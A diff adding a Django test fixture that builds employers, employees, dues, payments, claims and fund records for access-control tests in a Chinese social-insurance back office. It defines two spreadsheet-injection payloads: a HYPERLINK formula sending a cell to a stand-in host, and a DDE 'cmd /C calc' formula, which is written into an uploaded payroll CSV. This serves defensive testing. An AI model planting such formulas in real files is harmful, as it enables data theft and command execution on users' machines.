@@ -1,0 +1,241 @@
+"""A small world for the access tests (issue #12): two employers, their people, a person who moved from
+employer 1 to employer 2, and one row of every table the back office shows.
+
+Rows are written directly (not through the services): these tests are about who may see and change
+them, not about how they are computed. Employer 1 is 甲公司, employer 2 乙公司.
+"""
+
+from __future__ import annotations
+
+from datetime import date, datetime
+from decimal import Decimal
+from types import SimpleNamespace
+
+from django.contrib.auth.models import Group
+from django.core.files.base import ContentFile
+from django.utils import timezone
+
+from batch.models import BatchRun
+from enrollment import services
+from enrollment.models import EmployerUser, LifeEvent
+from enrollment.roles import AUDITOR, BUREAU_ADMIN, CASE_WORKER, EMPLOYER_USER
+from operations.demo.population import credit_code, id_number
+from policy.models import Jurisdiction, PolicyParameter, ReferenceStatistic
+from tests.conftest import make_user
+
+D = Decimal
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"点击")'
+CMD = "=cmd|' /C calc'!A0"
+
+
+def _aware(day: date) -> datetime:
+    return timezone.make_aware(datetime(day.year, day.month, day.day, 9, 0))
+
+
+def due(person, employer, month: date, total: str, **kw):
+    from contributions.models import MonthlyDue
+
+    amount = D(total)
+    return MonthlyDue.objects.create(
+        person=person,
+        employer=employer,
+        jurisdiction=employer.jurisdiction,
+        month=month,
+        category="employee",
+        base=D("5000.00"),
+        employer_amount=amount - D("100.00"),
+        individual_amount=D("100.00"),
+        personal_account_amount=D("0.00"),
+        pool_amount=amount,
+        total=amount,
+        due_date=date(month.year, month.month, 15),
+        created_at=_aware(month),
+        **kw,
+    )
+
+
+def pay(person, due_row, reference: str, amount: str):
+    from contributions.models import Payment, PaymentAllocation
+
+    payment = Payment.objects.create(
+        person=person,
+        amount=D(amount),
+        paid_on=due_row.due_date,
+        source="manual",
+        reference=reference,
+        unapplied_amount=D("0.00"),
+    )
+    PaymentAllocation.objects.create(
+        payment=payment, due=due_row, principal=D(amount), late_fee=D("0.00"), created_at=_aware(due_row.due_date)
+    )
+    return payment
+
+
+def build_world() -> SimpleNamespace:
+    from benefits.claims.models import BenefitAccumulator, Claim, SettlementFile
+    from benefits.models import EligibilityPeriod, EligibilityState
+    from contributions.models import (
+        BackPaymentBill,
+        ContributionBase,
+        Deferral,
+        EmployerBase,
+        ImportJob,
+        WageDeclaration,
+    )
+    from contributions.retirement.models import RetirementClearanceCase
+    from funds.models import CreditSuspension, FundAccount, JournalEntry, Reconciliation, ShortfallSettlement
+
+    w = SimpleNamespace()
+    hunan = Jurisdiction.objects.get(code="hunan")
+    w.e1 = services.employer_register(
+        credit_code=credit_code("430102", 1), name="甲公司", jurisdiction="hunan", registered_on=date(2020, 1, 1)
+    )
+    w.e2 = services.employer_register(
+        credit_code=credit_code("430102", 2), name="乙公司", jurisdiction="hunan", registered_on=date(2020, 1, 1)
+    )
+
+    def person(n: int, name: str, employer, start: date, end: date | None = None, phone: str = ""):
+        p = services.person_register(id_number=id_number("430102", date(1980, 5, 17), n, True), name=name, phone=phone)
+        services.span_open(person=p, jurisdiction="hunan", category="employee", start=start, employer=employer)
+        if end is not None:
+            p.spans.filter(employer=employer).update(end=end)
+        return p
+
+    w.p1 = person(1, "甲一", w.e1, date(2023, 1, 1), phone="13900000001")
+    w.p2 = person(2, "乙一", w.e2, date(2023, 1, 1), phone="13900000002")
+    # 调动: 甲公司 2023, then 乙公司 from 2024-01-01.
+    w.mover = person(3, "调动人", w.e1, date(2023, 1, 1), end=date(2024, 1, 1), phone="13900000003")
+    services.span_open(person=w.mover, jurisdiction="hunan", category="employee", start=date(2024, 1, 1), employer=w.e2)
+    w.span2 = w.p2.spans.get()
+    w.mover_span2 = w.mover.spans.get(employer=w.e2)
+
+    w.admin = make_user("m_admin", BUREAU_ADMIN)
+    w.worker = make_user("m_worker", CASE_WORKER)
+    w.auditor = make_user("m_auditor", AUDITOR)
+    w.emp1 = make_user("m_emp1", EMPLOYER_USER)
+    w.emp2 = make_user("m_emp2", EMPLOYER_USER)
+    EmployerUser.objects.create(user=w.emp1, employer=w.e1)
+    w.emp2_link = EmployerUser.objects.create(user=w.emp2, employer=w.e2)
+    w.users = {"admin": w.admin, "worker": w.worker, "auditor": w.auditor, "emp1": w.emp1, "emp2": w.emp2}
+
+    # 征缴: dues, payments and allocations, bases and wages at each employer.
+    w.due_p2 = due(w.p2, w.e2, date(2024, 3, 1), "600.00")
+    w.pay_p2 = pay(w.p2, w.due_p2, "PAY-P2", "600.00")
+    w.due_m1 = due(w.mover, w.e1, date(2023, 6, 1), "500.00")
+    w.due_m2 = due(w.mover, w.e2, date(2024, 3, 1), "777.00")
+    w.pay_m1 = pay(w.mover, w.due_m1, "PAY-MOVER-E1", "500.00")
+    w.pay_m2 = pay(w.mover, w.due_m2, "PAY-MOVER-E2", "777.00")
+    now = timezone.now()
+    wages = ((w.p2, w.e2, 2024, "6100.00"), (w.mover, w.e1, 2023, "5100.00"), (w.mover, w.e2, 2024, "8888.00"))
+    for p, e, year, wage in wages:
+        ContributionBase.objects.create(
+            person=p,
+            employer=e,
+            jurisdiction=hunan,
+            year_start=date(year, 1, 1),
+            category="employee",
+            wage=D(wage),
+            base=D(wage),
+            basis="wage",
+            updated_at=now,
+        )
+        WageDeclaration.objects.create(person=p, employer=e, year=year, monthly_wage=D(wage))
+    EmployerBase.objects.create(
+        employer=w.e2, year_start=date(2024, 1, 1), sum_of_individual_bases=D(1), updated_at=now
+    )
+    Deferral.objects.create(
+        employer=w.e2, start=date(2024, 1, 1), end=date(2024, 4, 1), approved_on=date(2023, 12, 1), citation="测试"
+    )
+    BackPaymentBill.objects.create(
+        person=w.p2,
+        employer=w.e2,
+        jurisdiction=hunan,
+        start_month=date(2023, 1, 1),
+        end_month=date(2023, 2, 1),
+        months=1,
+        rule="test",
+        base=D(1),
+        employer_amount=D(1),
+        individual_amount=D(0),
+        personal_account_amount=D(0),
+        total=D(1),
+        citation="测试",
+        issued_on=date(2024, 1, 1),
+        due_date=date(2024, 2, 1),
+    )
+    w.job = ImportJob.objects.create(
+        kind="payroll", employer=w.e2, uploaded_by=w.worker, original_name="乙公司工资.csv", total_rows=1, error_rows=1
+    )
+    rows = f"身份证号,姓名,月工资\r\n{w.p2.id_number},{CMD},=1+1\r\n".encode()
+    w.job.file.save("access-test.csv", ContentFile(rows), save=False)
+    w.job.errors = [{"row": 2, "field": "月工资", "message": "不是数字"}]
+    w.job.save()
+
+    # 待遇, 清缴, 报销, 基金.
+    EligibilityPeriod.objects.create(
+        person=w.p2, jurisdiction=hunan, start=date(2023, 1, 1), status="covered", reason="测试", computed_at=now
+    )
+    EligibilityState.objects.create(person=w.p2, digest="x", computed_at=now)
+    w.case = RetirementClearanceCase.objects.create(
+        person=w.p2,
+        jurisdiction=hunan,
+        opened_on=date(2024, 1, 1),
+        reason="pension_approved",
+        retire_on=date(2040, 5, 1),
+    )
+    w.claim = Claim.objects.create(
+        business_key="ACCESS-1",
+        person=w.p2,
+        jurisdiction=hunan,
+        med_type="21",
+        start_date=date(2024, 3, 1),
+        end_date=date(2024, 3, 5),
+        hospital_level="level1",
+        medfee_sumamt=D(100),
+        inscp_scp_amt=D(100),
+    )
+    BenefitAccumulator.objects.create(person=w.p2, jurisdiction=hunan, year=2024)
+    settlement = SettlementFile(jurisdiction=hunan, as_of=date(2024, 4, 1), uploaded_by=w.worker)
+    settlement.file.save("access-settlement.csv", ContentFile(b"business_key\r\n"), save=True)
+    FundAccount.objects.create(
+        jurisdiction=hunan, kind="personal", code="ACC-P2", opened_on=date(2023, 1, 1), person=w.p2
+    )
+    JournalEntry.objects.create(
+        business_key="JE-ACCESS",
+        kind=JournalEntry._meta.get_field("kind").choices[0][0],
+        jurisdiction=hunan,
+        effective_on=date(2024, 1, 1),
+        recorded_at=now,
+    )
+    CreditSuspension.objects.create(employer=w.e2, start=date(2024, 1, 1), citation="测试")
+    ShortfallSettlement.objects.create(person=w.p2, jurisdiction=hunan, paid_on=date(2024, 1, 1))
+    Reconciliation.objects.create(ran_at=now, ok=True)
+    LifeEvent.objects.create(person=w.p2, kind="hire", occurred_on=date(2023, 1, 1), jurisdiction=hunan, employer=w.e2)
+
+    # 政策, 批处理, 定时任务.
+    ReferenceStatistic.objects.create(
+        jurisdiction=hunan, key="annual_average_wage", effective_from=date(2024, 1, 1), period_label="2023", value=1
+    )
+    w.run = BatchRun.objects.create(job="contributions.dues_generate", as_of=date(2024, 3, 1), jurisdiction=hunan)
+    _beat_rows()
+    w.group = Group.objects.get(name=EMPLOYER_USER)
+    w.parameter = PolicyParameter.objects.filter(jurisdiction=hunan).first() or PolicyParameter.objects.create(
+        jurisdiction=hunan, key="test.key", effective_from=date(2020, 1, 1), value=1, citation="测试"
+    )
+    return w
+
+
+def _beat_rows() -> None:
+    from django_celery_beat.models import (
+        ClockedSchedule,
+        CrontabSchedule,
+        IntervalSchedule,
+        PeriodicTask,
+        SolarSchedule,
+    )
+
+    interval = IntervalSchedule.objects.create(every=1, period="days")
+    CrontabSchedule.objects.create()
+    ClockedSchedule.objects.create(clocked_time=timezone.now())
+    SolarSchedule.objects.create(event="sunrise", latitude=28, longitude=113)
+    PeriodicTask.objects.create(name="access-test", task="noop", interval=interval)
